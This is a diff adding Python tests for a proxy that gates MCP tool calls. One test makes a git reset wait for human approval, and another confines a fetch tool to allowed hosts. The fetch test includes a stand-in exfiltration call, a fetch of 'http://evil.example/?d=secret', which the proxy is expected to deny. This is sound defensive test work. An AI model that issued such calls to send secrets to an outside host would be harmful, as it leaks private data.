@@ -14,6 +14,7 @@ from __future__ import annotations
 
 import json
 import os
+import subprocess
 import sys
 import threading
 import time
@@ -376,3 +377,143 @@ def test_bad_upstream_names_and_options_are_usage_errors(tmp_path: Path) -> None
     assert missing.exit_code == 2
     with pytest.raises(corral.ConfigError):
         Proxy(_policy(), [Upstream("a.b", "http://x")], store=SQLiteStore(tmp_path / "x.db"))
+
+
+# -- the other reference servers: git (a destructive write) and fetch (an open-world read) --
+def _git_repo(path: Path) -> Path:
+    path.mkdir()
+    git = ["git", "-C", str(path), "-c", "user.name=t", "-c", "user.email=t@example.com"]
+    subprocess.run([*git, "init", "-q"], check=True)
+    (path / "a.txt").write_text("one\n")
+    subprocess.run([*git, "add", "a.txt"], check=True)
+    subprocess.run([*git, "commit", "-qm", "first"], check=True)
+    (path / "b.txt").write_text("staged\n")
+    subprocess.run([*git, "add", "b.txt"], check=True)
+    return path
+
+
+def _staged(repo: Path) -> str:
+    return subprocess.run(
+        ["git", "-C", str(repo), "diff", "--cached", "--name-only"],
+        check=True, capture_output=True, text=True,
+    ).stdout.strip()  # fmt: skip
+
+
+def test_git_reset_waits_for_an_approval_and_runs_once(tmp_path: Path) -> None:
+    pytest.importorskip("mcp_server_git")
+    repo = _git_repo(tmp_path / "repo")
+    server = StdioServerParameters(
+        command=sys.executable, args=["-m", "mcp_server_git", "--repository", str(repo)]
+    )
+    policy = corral.Policy.from_dict(
+        {
+            "tools": {
+                "allow": ["git.git_status", "git.git_reset"],
+                "specs": {"git.git_status": {"effect": "read", "cache": False}},
+            },
+            "writes": {"require_approval": True, "approval_timeout_seconds": 1},
+        }
+    )
+    args = {"repo_path": str(repo)}
+
+    async def session(approve: bool) -> tuple[str, str]:
+        store = SQLiteStore(tmp_path / "corral.db")
+        done = threading.Event()
+
+        def approver() -> None:
+            with SQLiteStore(tmp_path / "corral.db") as other:
+                while not done.is_set():
+                    for request in other.list_approvals(status="pending"):
+                        approvals.approve(other, request.id, approver="ann", reason="ok")
+                        return
+                    time.sleep(0.05)
+
+        helper = threading.Thread(target=approver)
+        try:
+            async with Proxy(policy, [Upstream("git", server)], store=store) as proxy, Client(
+                proxy.server()
+            ) as client:  # fmt: skip
+                async with Client(server) as direct:
+                    expected = _text(await direct.call_tool("git_status", args))
+                status = _text(await client.call_tool("git.git_status", args))
+                assert status == expected
+                if approve:
+                    helper.start()
+                reset = await client.call_tool("git.git_reset", args)
+                return status, _text(reset)
+        finally:
+            done.set()
+            if helper.is_alive():
+                helper.join(10)
+            store.close()
+
+    _, refused = anyio.run(session, False)
+    assert refused.startswith("approval_timeout:git.git_reset"), refused
+    assert _staged(repo) == "b.txt"  # never ran
+    _, done = anyio.run(session, True)
+    assert "reset" in done.lower(), done
+    assert _staged(repo) == ""
+
+
+def test_fetch_reaches_only_the_hosts_its_constraint_allows(tmp_path: Path) -> None:
+    pytest.importorskip("mcp_server_fetch")
+    import http.server
+
+    class Page(http.server.BaseHTTPRequestHandler):
+        def do_GET(self) -> None:
+            body = b"<html><body><p>vendor status: all systems normal</p></body></html>"
+            self.send_response(200)
+            self.send_header("Content-Type", "text/html")
+            self.send_header("Content-Length", str(len(body)))
+            self.end_headers()
+            self.wfile.write(body)
+
+        def log_message(self, *args: Any) -> None:
+            pass  # quiet
+
+    site = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Page)
+    threading.Thread(target=site.serve_forever, daemon=True).start()
+    no_node = tmp_path / "bin"
+    no_node.mkdir()  # a PATH with no node on it: the server never installs packages
+    server = StdioServerParameters(
+        command=sys.executable,
+        args=["-m", "mcp_server_fetch", "--allow-private-ips", "--ignore-robots-txt"],
+        env={"PATH": str(no_node), "HOME": str(tmp_path)},
+    )
+    policy = corral.Policy.from_dict(
+        {
+            "tools": {
+                "allow": ["fetch.fetch"],
+                "specs": {
+                    "fetch.fetch": {
+                        "effect": "read",
+                        "cache": False,
+                        "constraints": {"url": {"schemes": ["http"], "hosts": ["127.0.0.1"]}},
+                    }
+                },
+            }
+        }
+    )
+    port = site.server_address[1]
+
+    async def go() -> tuple[str, str]:
+        store = SQLiteStore(tmp_path / "corral.db")
+        try:
+            async with Proxy(policy, [Upstream("fetch", server)], store=store) as proxy, Client(
+                proxy.server()
+            ) as client:  # fmt: skip
+                page = await client.call_tool("fetch.fetch", {"url": f"http://127.0.0.1:{port}/"})
+                out = await client.call_tool(
+                    "fetch.fetch", {"url": "http://evil.example/?d=secret"}
+                )
+                return _text(page), _text(out)
+        finally:
+            store.close()
+
+    try:
+        page, refused = anyio.run(go)
+    finally:
+        site.shutdown()
+    assert "all systems normal" in page
+    assert refused.startswith("tool_denied:fetch.fetch"), refused
+    assert "argument_not_allowed" in refused
